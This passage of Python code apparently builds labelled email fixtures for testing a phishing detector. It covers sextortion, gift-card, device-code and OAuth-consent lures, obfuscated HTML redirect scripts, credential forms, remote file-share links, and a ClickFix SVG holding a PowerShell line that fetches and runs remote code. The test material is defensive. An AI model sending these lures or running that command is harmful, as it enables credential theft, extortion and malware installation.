          "%s\n--b1--\n" % b64(ics.encode()), "threat", "url.free_hosting",
          "url.anonymous_only")
    # A callback number written in full-width signs and digits.
    write("en-485-callback-fullwidth-number.eml",
          headers("Billing Dept <billing@fastorder-desk.example>",
                  "Order Processed #88213") +
          "Content-Type: text/plain; charset=utf-8\n"
          "Content-Transfer-Encoding: 8bit\n\nYour subscription has been "
          "renewed and $289.99 has been charged.\nIf you did not authorize "
          "this, call our toll free number: ＋１ （８３３） ９５１－２０９６\n",
          "potential", "content.callback")
    # A DoubleClick click link whose whole query is the destination.
    write("en-486-doubleclick-query-target.eml",
          headers("Olivia Grant <ogrant@grant-logistics.example>",
                  "Shared file") +
          "Content-Type: text/html; charset=utf-8\n\n<html><body><p><a "
          "href='https://ad.doubleclick.net/ddm/trackclk/N1234.5678/B2468;"
          "dc_trk_aid=1;dc_lat=;tfua=?https://www.paypal.com.account-review"
          ".top/signin'>Open the file</a></p></body></html>\n", "threat",
          "url.open_redirect", "url.lookalike_brand")
    # A brand of two words written as one, as brands and impostors do.
    write("en-487-brand-words-joined.eml",
          headers("NortonLifeLock <invoice@snapmerch-deals.example>",
                  "Payment Confirmation - Invoice #NL-9920431") +
          "Content-Type: text/plain; charset=utf-8\n\nYour subscription "
          "has been renewed. Invoice NL-9920431.\n", "potential",
          "sender.display_brand")
    write("en-488-brand-words-hyphened.eml",
          headers("Trust-Wallet <notice@wallet-sync.example>",
                  "Wallet verification") +
          "Content-Type: text/plain; charset=utf-8\n\nYour wallet needs "
          "to be synchronised.\n", "threat", "sender.display_brand")
    # A mail attached as a file of no mail type: Outlook opens a .eml
    # whatever its type says.
    inner = ("From: Microsoft 365 <no-reply@m365-securemail.example>\r\n"
             "To: taro.yamada@contoso.com\r\nSubject: Action Required: "
             "Password Expiration Notice\r\nMIME-Version: 1.0\r\n"
             "Content-Type: text/plain; charset=utf-8\r\n\r\nYour password "
             "will expire today. Verify your account to keep your current "
             "password: https://m365-securemail.example/keep\r\n")
    write("en-489-eml-octet-stream.eml",
          headers("Tom Reed <treed@reed-supply.example>", "Remittance notice") +
          'Content-Type: multipart/mixed; boundary="b1"\n\n--b1\n'
          "Content-Type: text/plain; charset=utf-8\n\nPlease see the "
          "attached notice.\n\n--b1\nContent-Type: application/octet-"
          'stream; name="Remittance_Notice.eml"\nContent-Disposition: '
          'attachment; filename="Remittance_Notice.eml"\n'
          "Content-Transfer-Encoding: base64\n\n%s\n--b1--\n"
          % b64(inner.encode()), "potential", "content.credential_urgent")
    # Japanese sextortion and a gift card errand as review 42 wrote them.
    write("ja-47-sextortion.eml",
          headers("Anonymous <ppq8812@mail-anon.example>",
                  "=?UTF-8?B?5pSv5omV44GE5pyf6ZmQ44Gu6YCa55+l?=") +
          "Content-Type: text/plain; charset=utf-8\n"
          "Content-Transfer-Encoding: 8bit\n\n"
          "あなたのパソコンに私のソフトを仕込んでいる。あなたが見ていた"
          "恥ずかしい動画と、その時の顔を撮った映像が手元にある。"
          "暗号資産(BTC)で20万円を送金しろ。送金先: bc1qar0srrr7xfkvy5l643ly"
          "dnw9re59gtzzwf5mdq 期限を過ぎたら、同僚と家族全員に送る。\n",
          "threat", "content.extortion")
    write("ja-48-giftcard-errand.eml",
          headers("=?UTF-8?B?5bGx55SwIOWkqumDjg==?= <yamada.t.office@gmail.com>",
                  "=?UTF-8?B?6Iez5oCl44GK6aGY44GE?=") +
          "Content-Type: text/plain; charset=utf-8\n"
          "Content-Transfer-Encoding: 8bit\n\n田中さん\n取引先へのお礼として、"
          "Appleギフトカード（1万円分）を5枚購入してもらえますか。購入後、"
          "カード裏面のコードを撮影してこのメールに送ってください。会議中なので"
          "電話には出られません。\n山田\n", "threat", "content.gift_card")
    # Japan's electronic signature services, real and imitated.
    for fname, addr, verdict, rule in (
            ("ja-49-clean-cloudsign.eml", "noreply@cloudsign.jp", "clean",
             "!sender.display_brand"),
            ("ja-50-cloudsign-elsewhere.eml", "noreply@cloud-sign-docs.example",
             "threat", "sender.display_brand")):
        dom = addr.split("@")[1]
        write(fname, auth_pass(dom) + headers(
              Header("クラウドサイン", "utf-8").encode() + " <%s>" % addr,
              Header("【クラウドサイン】書類の確認依頼", "utf-8").encode()) +
              "Content-Type: text/plain; charset=utf-8\n"
              "Content-Transfer-Encoding: 8bit\n\n株式会社ファブリカムから"
              "書類の確認依頼が届いています。\nhttps://www.%s/document/x1\n"
              % dom, verdict, rule)
    # Review 45: a name of departments spelt by a domain anyone
    # registers is no company's own: the callback check stands.
    write("en-490-callback-department-domain.eml",
          auth_pass("billingdepartment.example") +
          headers("Billing Department <renewals@billingdepartment.example>",
                  "Renewal notice") +
          "Content-Type: text/plain; charset=utf-8\n\nYour Norton 360 "
          "subscription has been renewed and $399.99 has been charged. If "
          "you did not authorize this, call +1 (808) 215-4471.\n",
          "potential", "content.callback")
    # Review 45: steps that open the Run box or a terminal without a
    # pretext or a command that fetches (a vendor's support, a news
    # letter's shortcuts) are no ClickFix; the attack written otherwise
    # ("Windows key and the R key", "hold Ctrl and press V", an SVG)
    # still is.
    write("en-491-clean-vendor-winx-steps.eml",
          headers("Dell Support <support@dell-support.example>",
                  "Your service request - next steps") +
          "Content-Type: text/plain; charset=utf-8\n\nPress Windows key + "
          "X and choose Device Manager. Expand \"Human Interface Devices\", "
          "copy the first Hardware Id and paste it in your reply.\n",
          "clean", "!content.clickfix")
    write("en-492-clean-shortcut-tips.eml",
          headers("PowerShell Community <news@powershell-news.example>",
                  "PowerShell Digest #212") +
          "Content-Type: text/plain; charset=utf-8\n\n- Use Win + X, then "
          "A, to open Terminal (Admin) quickly.\n- Paste multi-line "
          "commands safely: Ctrl + V no longer runs each line.\n- iex and "
          "Invoke-Expression: why to avoid them.\nhttps://powershell-news"
          ".example/212\n", "clean", "!content.clickfix")
    write("en-493-clickfix-worded-keys.eml",
          headers("Guest Desk <desk@guest-review-help.example>",
                  "Guest complaint") +
          "Content-Type: text/plain; charset=utf-8\n\nTo view the complaint, "
          "verify you are human: press the Windows key and the R key, then "
          "hold Ctrl and press V, then Enter.\n", "threat",
          "content.clickfix")
    svg = ('<svg xmlns="http://www.w3.org/2000/svg" width="600" height="200">'
           '<text x="10" y="40">To play: press Win + R, then Ctrl + V, then '
           'Enter.</text><text x="10" y="80">powershell -w h -c "iwr '
           'x-online.example/v|iex"</text></svg>')
    write("en-494-clickfix-svg.eml",
          headers("Sarah Lee <sarah.lee@harbor-logistics.example>",
                  "New voicemail (0:42)") +
          'Content-Type: multipart/mixed; boundary="b1"\n\n--b1\n'
          "Content-Type: text/plain; charset=utf-8\n\nListen to the "
          "attached message.\n\n--b1\nContent-Type: image/svg+xml; "
          'name="voicemail.svg"\nContent-Disposition: attachment; '
          'filename="voicemail.svg"\nContent-Transfer-Encoding: base64\n\n'
          "%s\n--b1--\n" % b64(svg.encode()), "threat",
          "attach.html_clickfix")
    write("ja-51-clean-vendor-winx-ja.eml",
          headers("=?UTF-8?B?44K144Od44O844OI?= <support@printer-vendor.example>",
                  "=?UTF-8?B?UmU6IOODieODqeOCpOODkOOBrueiuuiqjeaWueazlQ==?=") +
          "Content-Type: text/plain; charset=utf-8\n"
          "Content-Transfer-Encoding: 8bit\n\nWindowsキー＋X を押して"
          "「デバイスマネージャー」を開き、ハードウェアIDを確認してコピーし、"
          "このメールへの返信に貼り付けてください。\n", "clean",
          "!content.clickfix")
    # Review 45: the code said after "code", not a KB number nor an
    # example; GitHub's own notice of a sign-in; the page written
    # without a scheme and the code in two spaced groups.
    write("en-495-clean-device-page-kb.eml",
          headers("Northwind Service Desk <servicedesk@northwind-it.example>",
                  "Ticket INC0048812 resolved") +
          "Content-Type: text/plain; charset=utf-8\n\nThe Surface Hub now "
          "signs in: if it asks again, use https://microsoft.com/devicelogin "
          "with the code it shows. We applied KB5046617.\n", "clean",
          "!content.device_code")
    write("en-496-clean-device-code-example.eml",
          headers("Cloud Academy <academy@cloud-academy.example>",
                  "Lab preparation") +
          "Content-Type: text/plain; charset=utf-8\n\nThe CLI prints "
          "something like: open https://microsoft.com/devicelogin and enter "
          "the code HQ4R7WZ2K to authenticate. (Your code will be "
          "different.)\n", "clean", "!content.device_code")
    write("en-497-clean-github-device-notice.eml",
          auth_pass("github.com") +
          headers("GitHub <noreply@github.com>",
                  "[GitHub] A new device signed in") +
          "Content-Type: text/plain; charset=utf-8\n\nA device was signed "
          "in to your account with device code 7A3F-12B9 at "
          "https://github.com/login/device.\n", "clean",
          "!content.device_code")
    write("en-498-device-code-spaced-no-scheme.eml",
          headers("Teams Events <events@teams-panel-invite.example>",
                  "Panel access") +
          "Content-Type: text/plain; charset=utf-8\n\nTo join the panel, "
          "open microsoft.com/devicelogin and enter this code: KQ7M X2PD\n",
          "threat", "content.device_code")
    # Review 45: consent asked on the admin consent endpoint, a
    # first-party sign-in whose code comes back to localhost
    # ("ConsentFix"), and a grant to the sender's own domain on mail
    # that is not authentic.
    for fname, url in (
            ("en-499-oauth-adminconsent.eml",
             "https://login.microsoftonline.com/common/adminconsent?"
             "client_id=9bf11ad0-2d6c-4a1e-8d0f-5c2e7a3b1f44&redirect_uri="
             "https%3A%2F%2Ftenant-sync.example%2Fdone"),
            ("en-500-oauth-consentfix-localhost.eml",
             "https://login.microsoftonline.com/organizations/oauth2/v2.0/"
             "authorize?client_id=04b07795-8ddb-461a-bbee-02f9e1bf7b46&"
             "response_type=code&redirect_uri=http%3A%2F%2Flocalhost%3A"
             "8400&scope=https%3A%2F%2Fgraph.microsoft.com%2F.default"),
            ("en-501-oauth-sender-domain-unauthenticated.eml",
             "https://login.microsoftonline.com/common/oauth2/v2.0/authorize"
             "?client_id=4f1c2d3e-0000-4a1e-8d0f-5c2e7a3b1f44&redirect_uri="
             "https%3A%2F%2Fapp.file-viewer.example%2Fcb&scope="
             "offline_access%20Mail.Read&response_type=code")):
        write(fname, headers("Document Share <share@file-viewer.example>",
                             "A document was shared with you") +
              "Content-Type: text/plain; charset=utf-8\n\nAccept the "
              "viewer permissions to open it:\n%s\n" % url, "potential",
              "url.oauth_consent")
    # Review 45: a training handout that quotes a sextortion mail, a
    # correspondent's own subdomain named after a product, a library's
    # proxy naming the site it fetches (no look-alike; a brand in the
    # host before ".com." is still url.brand_in_host, a potential threat
    # left as it was).
    def docx_paras(paras):
        body = "".join("<w:p><w:r><w:t>%s</w:t></w:r></w:p>" % p
                       for p in paras)
        return zipbytes([("[Content_Types].xml", DOCX_TYPES), (
            "word/document.xml",
            '<?xml version="1.0" encoding="UTF-8"?><w:document xmlns:w="http'
            '://schemas.openxmlformats.org/wordprocessingml/2006/main">'
            "<w:body>%s</w:body></w:document>" % body)])
    handout = docx_paras([
        "Sextortion emails: what they look like",
        "A typical message says: &quot;I have installed spyware and "
        "recorded you. Send 1500 USD in bitcoin within 48 hours or the "
        "video goes to all your contacts.&quot;",
        "Do not pay. Report the email to the service desk."])
    write("en-502-clean-awareness-handout.eml",
          headers("Fabrikam Security Awareness <awareness@fabrikam.com>",
                  "December awareness module") +
          'Content-Type: multipart/mixed; boundary="b1"\n\n--b1\n'
          "Content-Type: text/plain; charset=utf-8\n\nAttached is this "
          "month's handout.\n\n--b1\nContent-Type: application/vnd."
          "openxmlformats-officedocument.wordprocessingml.document; "
          'name="Handout.docx"\nContent-Disposition: attachment; '
          'filename="Handout.docx"\nContent-Transfer-Encoding: base64\n\n'
          "%s\n--b1--\n" % b64(handout), "clean", "!attach.doc_extortion")
    write("en-503-clean-correspondent-product-subdomain.eml",
          headers("Fabrikam Billing <billing@fabrikam.com>",
                  "Your Microsoft 365 licences") +
          "Content-Type: text/plain; charset=utf-8\n\nThe invoice for your "
          "licences: https://microsoft-invoices.fabrikam.com/2026/11\n",
          "clean", "!url.brand_in_host")
    write("en-504-library-proxy.eml",
          headers("Northwind Library <library@northwind-univ.example>",
                  "Database access") +
          "Content-Type: text/plain; charset=utf-8\n\nOff campus, use "
          "https://www.linkedin.com.ezproxy.northwind-univ.edu/learning to "
          "reach the courses.\n", "potential", "!url.lookalike_brand",
          "url.brand_in_host")
    # Review 46: the Azure CLI's own words quoted in a lesson, a shop's
    # page whose address holds "google.com/device", a meeting whose name
    # holds 例 (定例), and a warning that quotes a code.
    write("en-505-clean-cli-output-quoted.eml",
          headers("Learning <learning@course-site.example>", "Lesson 3") +
          "Content-Type: text/plain; charset=utf-8\n\nRun az login "
          "--use-device-code. You will see: To sign in, use a web browser "
          "to open the page https://microsoft.com/devicelogin and enter the "
          "code HQ4KZ7N2M to authenticate.\n", "clean",
          "!content.device_code")
    write("en-506-clean-shop-devices-page.eml",
          headers("Pixel Deals <deals@phone-retailer.example>",
                  "Holiday offers") +
          "Content-Type: text/plain; charset=utf-8\n\nSee the phones at "
          "store.google.com/devices and use the promo code HOLIDAY25 or "
          "code XMAS2026A at checkout.\n", "clean", "!content.device_code")
    write("ja-52-device-code-teirei.eml",
          headers("Sarah Lee <sarah.lee@harbor-logistics.example>",
                  "=?UTF-8?B?5a6a5L6L5Lya6K2w?=") +
          "Content-Type: text/plain; charset=utf-8\n"
          "Content-Transfer-Encoding: 8bit\n\nTeams定例会議に参加するには "
          "https://microsoft.com/devicelogin を開き、コード FJ3K8L2PQ を"
          "入力してください。\n", "threat", "content.device_code")
    write("ja-53-clean-device-code-warning.eml",
          headers("=?UTF-8?B?5oOF5aCx44K344K544OG44Og6YOo?= "
                  "<it@contoso.com>", "=?UTF-8?B?5rOo5oSP5Zaa6LW3?=") +
          "Content-Type: text/plain; charset=utf-8\n"
          "Content-Transfer-Encoding: 8bit\n\n攻撃者は「microsoft.com/"
          "devicelogin でコード ABCD-EF12 を入力して」と依頼してきます。"
          "このような依頼には応じないでください。\n", "clean",
          "!content.device_code")
    # Review 46: a reward mail's gift card and the code on its back; a
    # correspondent's authentic mail asking to connect its application
    # on a cloud: no consent phishing (a site named after it on a shared
    # cloud is still weighed, review 38's decision, en-423).
    write("ja-54-clean-reward-giftcard.eml",
          auth_pass("survey-panel.example") +
          headers("=?UTF-8?B?44Ki44Oz44Kx44O844OI?= <info@survey-panel.example>",
                  "=?UTF-8?B?44Ki44Oz44Kx44O844OI6Kyd56S8?=") +
          "Content-Type: text/plain; charset=utf-8\n"
          "Content-Transfer-Encoding: 8bit\n\nアンケートのお礼にAmazonギフト"
          "カードをお送りします。カード裏面のコードをアカウントに登録して"
          "ご利用ください。\n", "clean", "!content.gift_card")
    write("en-507-clean-correspondent-app-consent.eml",
          auth_pass("fabrikam.com") +
          headers("Emily Chen <emily.chen@fabrikam.com>",
                  "Connect the partner portal") +
          "Content-Type: text/plain; charset=utf-8\n\nTo connect our "
          "partner portal to your calendar: https://login.microsoftonline"
          ".com/common/oauth2/v2.0/authorize?client_id=1f2e3d4c-0000-4a1e-"
          "8d0f-5c2e7a3b1f44&redirect_uri=https%3A%2F%2Ffabrikam-portal."
          "azurewebsites.net%2Fcb&scope=offline_access%20Calendars.Read&"
          "response_type=code\n", "threat", "!url.oauth_consent",
          "url.name_in_domain")
    # A sextortion letter that says it is no scam is still one: a word
    # a lure may say of itself does not make it a warning.
    ext2 = ["This is not a scam. I have installed spyware on your device",
            "and recorded you. Send 1500 USD in bitcoin within 48 hours",
            "or the video goes to all your contacts.",
            "BTC: bc1qxy2kgdygjrsqtzq2n0yrf2493p83kkfjhx0wlh"]
    write("en-508-doc-extortion-not-a-scam.eml",
          headers("John Smith <js.private.9921@outlook.example>",
                  "Read this") +
          'Content-Type: multipart/mixed; boundary="b1"\n\n--b1\n'
          "Content-Type: text/plain; charset=utf-8\n\nRead the attached."
          "\n--b1\nContent-Type: application/pdf; name=\"JS2.pdf\"\n"
          "Content-Disposition: attachment; filename=\"JS2.pdf\"\n"
          "Content-Transfer-Encoding: base64\n\n" +
          b64(pdf_simple_text(ext2)) + "\n--b1--\n", "threat",
          "attach.doc_extortion")

def review37_samples():
    """Review 37's shapes: file names shown as links, an SVG picture that
    is a link, web pages attached whose script works out where to send
    the browser (escapes reversed, pieces joined, character codes, a
    loop that hides it), a page in a full-window frame, a password form
    in a frame's srcdoc."""
    def mail(fname, att_name, ctype, body, verdict, *rules):
        write(fname, headers("Accounts <accounts@remit-notice.example>",
                             "Remittance advice") +
              'Content-Type: multipart/mixed; boundary="b1"\n\n--b1\n'
              "Content-Type: text/plain; charset=utf-8\n\nSee attached."
              "\n\n--b1\nContent-Type: %s; name=\"%s\"\n"
              'Content-Disposition: attachment; filename="%s"\n'
              "Content-Transfer-Encoding: base64\n\n%s\n--b1--\n"
              % (ctype, att_name, att_name, b64(body.encode())),
              verdict, *rules)

    def page(script):
        return ("<!DOCTYPE html><html><head><meta charset='utf-8'><title>"
                "Remittance</title></head><body><div>Loading secure "
                "document...</div><script>%s</script></body></html>"
                % script)

    # A correspondent's links shown as its files' names, to its own
    # OneDrive: no domain shown, nothing pretended.
    write("en-399-clean-file-name-links.eml",
          eop_pass("fabrikam.com", "40.107.226.41") +
          headers("Emily Chen <emily.chen@fabrikam.com>",
                  "Budget and notes") +
          "Content-Type: text/html; charset=utf-8\n\n<html><body><p>Hi "
          "Taro, the files for Thursday:</p><p><a href=\"https://fabrikam-"
          "my.sharepoint.com/:x:/g/personal/emily_chen_fabrikam_com/EbQ1\">"
          "Budget_2027.xlsx</a><br><a href=\"https://fabrikam-my.sharepoint"
          ".com/:w:/g/personal/emily_chen_fabrikam_com/EbQ2\">Meeting-notes"
          ".docx</a></p><p>Emily</p></body></html>\n",
          "clean", "!url.text_mismatch", "!url.file_text")
    # A document "attached" as a link to a web page elsewhere.
    write("en-400-file-text-link.eml",
          headers("Escritorio Juridico <contato@juridico-aviso.example>",
                  "Processo 184782") +
          "Content-Type: text/html; charset=utf-8\n\n<html><body><p>Segue "
          "em anexo o processo.</p><p><a href=\"https://clk-mail.example/"
          "c/11pyph\">ver-processo-184782.pdf</a></p></body></html>\n",
          "clean", "url.file_text", "!url.text_mismatch")
    # An SVG picture whose one shape is a link.
    mail("en-401-svg-link.eml", "Remittance.svg", "image/svg+xml",
         '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.'
         'w3.org/1999/xlink" width="600" height="200"><a xlink:href="https:'
         '//remit-portal.example/view"><rect width="600" height="200" '
         'fill="#0078d4"/><text x="40" y="110" fill="#fff" font-size="28">'
         'View remittance</text></a></svg>',
         "potential", "attach.svg_link")
    # Where the page sends the browser, hidden four ways.
    url = "https://remit-portal.example/common/oauth2/?e=taro"
    mail("en-402-html-reversed-escapes.eml", "Remittance.html", "text/html",
         page("var p='%s';var t=p.split('').reverse().join('');"
              "self['loc'+'ation']['rep'+'lace'](t);" %
              "".join("\\x%02x" % ord(c) for c in url[::-1])),
         "threat", "attach.html_redirect")
    mail("en-403-html-joined.eml", "Remittance.html", "text/html",
         page("var a=[%s];window['location']=a.join('');" %
              ",".join("'%s'" % url[i:i + 5] for i in range(0, len(url), 5))),
         "threat", "attach.html_redirect")
    mail("en-404-html-charcodes.eml", "Remittance.html", "text/html",
         page("window.location.href=String.fromCharCode(%s);" %
              ",".join(str(ord(c)) for c in url)),
         "threat", "attach.html_redirect")
    mail("en-405-html-hidden.eml", "Remittance.html", "text/html",
         page("var k=7,s=atob('%s'),o='';for(var i=0;i<s.length;i++)"
              "o+=String.fromCharCode(s.charCodeAt(i)^k);"
              "window.location.replace(o);" % base64.b64encode(
                  bytes(ord(c) ^ 7 for c in url)).decode()),
         "threat", "attach.html_hidden_redirect")
    # A page in a frame the size of the window is that page, opened; a
    # frame's srcdoc is a page too, its password form the form.
    mail("en-406-html-frame.eml", "Remittance.html", "text/html",
         "<!DOCTYPE html><html><body><iframe src='%s' style='position:"
         "fixed;top:0;left:0;width:100%%;height:100%%;border:0'></iframe>"
         "</body></html>" % url, "threat", "attach.html_redirect")
    mail("en-407-html-srcdoc-form.eml", "Remittance.html", "text/html",
         '<!DOCTYPE html><html><body><iframe srcdoc="&lt;form action=&quot;'
         'https://remit-portal.example/p.php&quot; method=&quot;post&quot;'
         '&gt;Email &lt;input name=&quot;e&quot;&gt;Password &lt;input '
         'type=&quot;password&quot; name=&quot;p&quot;&gt;&lt;/form&gt;" '
         'style="border:0;width:100%;height:600px"></iframe></body></html>',
         "threat", "attach.html_credential_form")
    # A report saved as a page: its script reads the address bar and
    # spells two accents with escapes; it sends the browser nowhere.
    write("en-408-html-report-script.eml",
          headers("Emily Chen <emily.chen@fabrikam.com>", "Usage report") +
          'Content-Type: multipart/mixed; boundary="b1"\n\n--b1\n'
          "Content-Type: text/plain; charset=utf-8\n\nThe report is "
          "attached.\n\n--b1\nContent-Type: text/html; name=\"report.html\""
          '\nContent-Disposition: attachment; filename="report.html"\n'
          "Content-Transfer-Encoding: base64\n\n" + b64((
              "<!DOCTYPE html><html><body><h1>Usage</h1><table id='t'>"
              "</table><script>var tab=location.hash.slice(1)||'all';"
              "var title='R\\u00e9sum\\u00e9 ('+tab+')';"
              "document.title=title;</script></body></html>").encode()) +
          "\n--b1--\n", "potential", "attach.html",
          "!attach.html_redirect", "!attach.html_hidden_redirect")

    # Review 38: what a page's scripts do with a location that is not
    # the browser's (an object's property, a variable so named), a page
    # fetched by a library for its caller, a video framed the size of
    # the window: no redirect ...
    def report(fname, html, verdict, *rules):
        write(fname, headers("Emily Chen <emily.chen@fabrikam.com>",
                             "Usage report") +
              'Content-Type: multipart/mixed; boundary="b1"\n\n--b1\n'
              "Content-Type: text/plain; charset=utf-8\n\nThe report is "
              "attached.\n\n--b1\nContent-Type: text/html; name=\"report."
              'html"\nContent-Disposition: attachment; filename="report.'
              'html"\nContent-Transfer-Encoding: base64\n\n' +
              b64(html.encode()) + "\n--b1--\n", verdict, *rules)

    report("en-424-html-library-code.eml",
           "<!DOCTYPE html><html><body><div id='c'></div><script>"
           "/* https://d3js.org v7 */function ec(t,n){return fetch(t,n)."
           "then(function(r){return r.text()})}function load(u){ec(u)."
           "then(function(h){document.getElementById('c').innerHTML=h})}"
           "var cfg={location:'reports/'};function Pkg(o){this.location="
           "o.location}var location=cfg.location;location=location+'q4';"
           "var rows=[3,2,1].reverse();var q=decodeURIComponent("
           "window.location.hash.slice(1));</script></body></html>",
           "potential", "attach.html", "!attach.html_redirect",
           "!attach.html_hidden_redirect")
    report("en-425-html-video-frame.eml",
           "<!DOCTYPE html><html><body><iframe src='https://www.youtube.com"
           "/embed/dQw4w9WgXcQ' style='width:100%;height:100%;border:0'>"
           "</iframe></body></html>", "potential", "attach.html",
           "!attach.html_redirect")
    # ... while the redirect split between two scripts, or in an
    # element's onerror, and a password form two srcdoc frames deep,
    # are found.
    mail("en-426-html-split-scripts.eml", "Remittance.html", "text/html",
         "<!DOCTYPE html><html><body><script>var u=atob('%s');</script>"
         "<img src='x' onerror=\"window.location.replace(u)\"></body>"
         "</html>" % base64.b64encode(url.encode()).decode(),
         "threat", "attach.html_redirect")
    inner = ('<form action="https://remit-portal.example/p.php">Password '
             '<input type="password" name="p"></form>')
    mail("en-427-html-srcdoc-twice.eml", "Remittance.html", "text/html",
         '<!DOCTYPE html><html><body><iframe srcdoc="%s"></iframe></body>'
         '</html>' % html_escape('<iframe srcdoc="%s"></iframe>' %
                                 html_escape(inner)),
         "threat", "attach.html_credential_form")
    # An SVG logo linking to its sender's own site is a logo.
    write("en-428-clean-svg-logo.eml",
          headers("Emily Chen <emily.chen@northwind.example>", "Logo") +
          'Content-Type: multipart/mixed; boundary="b1"\n\n--b1\n'
          "Content-Type: text/plain; charset=utf-8\n\nOur new logo.\n\n"
          '--b1\nContent-Type: image/svg+xml; name="logo.svg"\n'
          'Content-Disposition: attachment; filename="logo.svg"\n'
          "Content-Transfer-Encoding: base64\n\n" + b64(
              b'<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http:'
              b'//www.w3.org/1999/xlink" width="200" height="60"><a xlink:'
              b'href="https://www.northwind.example/"><rect width="200" '
              b'height="60" fill="#123"/></a></svg>') + "\n--b1--\n",
          "clean", "!attach.svg_link")
    # A brand's name with an underscore in a label before it is the
    # brand's name shown.
    write("en-429-text-underscore-brand.eml",
          headers("Service <service@account-notice.example>", "Account") +
          "Content-Type: text/html; charset=utf-8\n\n<html><body><p><a "
          "href=\"https://account-notice.example/login\">secure_login."
          "paypal.com</a></p></body></html>\n",
          "potential", "url.text_mismatch_brand")

    # A Word document of a few words around a link, as the PDF lure is;
    # a page of text with a link in it is a document.
    def docx_link(text, url):
        return zipbytes([
            ("[Content_Types].xml", DOCX_TYPES),
            ("word/_rels/document.xml.rels",
             '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns='
             '"http://schemas.openxmlformats.org/package/2006/relationships'
             '"><Relationship Id="rId9" Type="http://schemas.openxmlformats'
             '.org/officeDocument/2006/relationships/hyperlink" Target="%s" '
             'TargetMode="External"/></Relationships>' % url),
            ("word/document.xml",
             '<?xml version="1.0" encoding="UTF-8"?><w:document xmlns:w='
             '"http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
             ' xmlns:r="http://schemas.openxmlformats.org/officeDocument/'
             '2006/relationships"><w:body><w:p><w:r><w:t>%s</w:t></w:r>'
             '<w:hyperlink r:id="rId9"><w:r><w:t>Open the document</w:t>'
             '</w:r></w:hyperlink></w:p></w:body></w:document>' % text)])

    for fname, text, verdict, rule in (
            ("en-433-docx-link-lure.eml", "A secure document was shared "
             "with you.", "clean", "attach.doc_link_lure"),
            ("en-434-clean-docx-with-link.eml", " ".join(
                ["The quarterly figures are in line with the plan; sales "
                 "in the north grew while the south held steady."] * 8),
             "clean", "!attach.doc_link_lure")):
        write(fname, headers("Kevin Lee <kevin.lee@northwind-traders.example>",
                             "Document") +
              'Content-Type: multipart/mixed; boundary="b1"\n\n--b1\n'
              "Content-Type: text/plain; charset=utf-8\n\nPlease see the "
              "attached.\n\n--b1\nContent-Type: application/vnd."
              "openxmlformats-officedocument.wordprocessingml.document; "
              'name="Document.docx"\nContent-Disposition: attachment; '
              'filename="Document.docx"\nContent-Transfer-Encoding: '
              "base64\n\n" + b64(docx_link(text, "https://docs-viewer-portal"
                                            ".example/d/93jf")) +
              "\n--b1--\n", verdict, rule)

    # Links Windows hands to a program of its own: a share on the
    # Internet opened by the file manager or Windows Search ...
    def html_mail(fname, href, verdict, *rules):
        write(fname, headers("Accounts <accounts@remit-notice.example>",
                             "Remittance advice") +
              "Content-Type: text/html; charset=utf-8\n\n<html><body><p>"
              "Your documents are ready.</p><p><a href=\"%s\">Open "
              "documents</a></p></body></html>\n" % href, verdict, *rules)

    html_mail("en-409-file-share-link.eml",
              "file://\\\\45.88.97.12@80\\share\\Invoice.pdf.lnk",
              "threat", "url.local_handler")
    html_mail("en-410-search-ms-link.eml",
              "search-ms:query=Invoice&amp;crumb=location:%5C%5Cremit-docs."
              "top%40SSL%5CDavWWWRoot&amp;displayname=Invoices",
              "threat", "url.local_handler")
    # ... also from an Internet shortcut's URL= line ...
    mail("en-411-urlfile-share.eml", "Documents.url",
         "application/octet-stream",
         "[InternetShortcut]\r\nURL=file://\\\\45.88.97.12@80\\share\\"
         "Invoice.pdf.lnk\r\nIconIndex=13\r\n", "threat",
         "url.local_handler", "attach.internet_shortcut")
    # ... while the office's own server (a name without a dot) and this
    # computer's disk are no share on the Internet.
    write("en-412-clean-intranet-share-link.eml",
          headers("Hanako Sato <hanako.sato@contoso.com>", "Budget") +
          "Content-Type: text/html; charset=utf-8\n\n<html><body><p>The "
          "budget is on the share: <a href=\"file://fileserver/finance/"
          "budget.xlsx\">budget</a>, my copy <a href=\"file:///C:/Users/"
          "hanako/budget.xlsx\">here</a>.</p></body></html>\n",
          "clean", "!url.local_handler")
    # Extortion in few words counts with a Bitcoin address: a Taproot
    # one (bech32m) is one; the same with its checksum broken, or a
    # tracking parameter of letters and digits, is none.
    for fname, addr, verdict, rule in (
            ("en-414-extortion-taproot.eml", "bc1p0xlxvlhemja6c4dqv22uapctq"
             "upfhlxm9h8z3k2e72q4k9hcz7vqzk5jj0", "threat",
             "content.extortion"),
            ("en-415-clean-extortion-bad-checksum.eml", "bc1p0xlxvlhemja6c4"
             "dqv22uapctqupfhlxm9h8z3k2e72q4k9hcz7vqzk5jj1", "clean",
             "!content.extortion"),
            ("en-416-clean-extortion-url-parameter.eml", "https://track."
             "example/c?id=1BvBMSEYstWetqTFn5Au4m4GFg7xJaNVN2", "clean",
             "!content.extortion")):
        write(fname, headers("<unknown@anon-mailer.example>", "hi") +
              "Content-Type: text/plain; charset=utf-8\n\nI recorded a "
              "video of you on your webcam. Send to %s\n" % addr, verdict,
              rule)
    # CEO fraud's opener: to a chat app, in confidence, from free mail
    # (in English and as Japan's gets it, a LINE group and its QR
    # code); a colleague asking the same from the organisation's own
    # domain is a colleague.
    def plain_mail(fname, frm, subject, text, verdict, *rules):
        write(fname, headers(frm, subject) +
              "Content-Type: text/plain; charset=utf-8\n\n" + text + "\n",
              verdict, *rules)

    plain_mail("en-417-ceo-whatsapp.eml",
               "John Smith <john.smith.office@gmail.com>", "Quick task",
               "Are you at your desk? I'm in a meeting and can't talk. "
               "Reply with your WhatsApp number.\n\nJohn",
               "threat", "content.chat_move", "sender.freemail_money")
    plain_mail("ja-36-ceo-line-group.eml",
               "=?UTF-8?B?%s?= <yamada.office@gmail.com>" %
               base64.b64encode("社長 山田 太郎".encode()).decode(),
               "=?UTF-8?B?44GK6aGY44GE?=",
               "お疲れ様です。会議中のため、メールで失礼します。\n"
               "LINEグループを作成して、QRコードを送ってください。\n"
               "この件は極秘でお願いします。\n山田",
               "threat", "content.chat_move", "sender.freemail_money")
    plain_mail("en-418-clean-colleague-mobile.eml",
               "Hanako Sato <hanako.sato@contoso.com>", "Offsite",
               "I'm in a meeting until 3. Can you text me your mobile "
               "number for the offsite group chat on WhatsApp?\n\nHanako",
